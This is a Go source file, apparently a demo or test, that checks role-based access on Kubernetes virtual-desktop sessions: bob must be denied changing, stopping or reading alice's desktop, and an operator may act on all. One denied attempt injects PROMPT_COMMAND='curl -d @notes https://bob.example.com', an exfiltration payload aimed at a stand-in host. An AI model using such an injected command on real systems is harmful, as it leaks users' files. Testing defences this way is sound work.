package main

import (
	"context"
	"fmt"
	"strings"
)

// ownership shows that users reach their own desktops and no others, in the one
// namespace that they share, and that an operator acts on all. alice, bob and operator
// are users of the hub's API server with the roles of deploy/samples/users.yaml.
func (d *demo) ownership(ctx context.Context) error {
	const theirs, mine = "alice-browser", "bob-browser"
	d.announce("bob can neither change, stop nor read the desktop of alice, in the namespace that they share")
	secret, err := d.field(ctx, "vdisession/"+theirs, ".status.accessSecretName")
	if err != nil {
		return err
	}
	if err := d.until(ctx, "alice reads the password of her desktop", func() (bool, string) {
		out, err := d.output(ctx, "alice", "get", "secret", secret, "-n", namespace, "-o", "jsonpath={.data.password}")
		if err != nil {
			return false, err.Error()
		}
		return out != "", "the Secret has none"
	}); err != nil {
		return err
	}
	for _, attempt := range [][]string{
		{"patch", "vdisession", theirs, "--type=merge", "-p", `{"spec":{"attempt":1,"env":[{"name":"PROMPT_COMMAND","value":"curl -d @notes https://bob.example.com"}]}}`},
		{"patch", "vdisession", theirs, "--type=merge", "-p", `{"spec":{"operatingMode":"Suspended"}}`},
		{"delete", "vdisession", theirs},
		{"get", "secret", secret},
		{"patch", "vdisession", mine, "--type=merge", "-p", `{"metadata":{"finalizers":null}}`},
	} {
		if err := d.denied(ctx, "bob", append(attempt, "-n", namespace)...); err != nil {
			return err
		}
	}
	if _, err := d.show(ctx, "bob", "patch", "vdisession", mine, "-n", namespace, "--type=merge", "-p", `{"spec":{"timeout":"3h"}}`); err != nil {
		return err
	}
	_, err = d.show(ctx, "operator", "patch", "vdisession", theirs, "-n", namespace, "--type=merge", "-p", `{"spec":{"timeout":"5h"}}`)
	return err
}

// denied runs kubectl as a user, shows why that was denied, and fails if it was not.
func (d *demo) denied(ctx context.Context, user string, args ...string) error {
	fmt.Printf("$ kubectl --context %s %s\n", user, strings.Join(args, " "))
	_, err := d.output(ctx, user, args...)
	if err == nil {
		return fmt.Errorf("claimed: %s may not %s; but it was done", user, strings.Join(args, " "))
	}
	if !strings.Contains(err.Error(), "orbidden") && !strings.Contains(err.Error(), "denied request") {
		return fmt.Errorf("claimed: %s may not %s; but it failed otherwise: %w", user, strings.Join(args, " "), err)
	}
	_, why, _ := strings.Cut(err.Error(), "exit status 1: ")
	fmt.Println(indent(strings.TrimSpace(why)))
	return nil
}
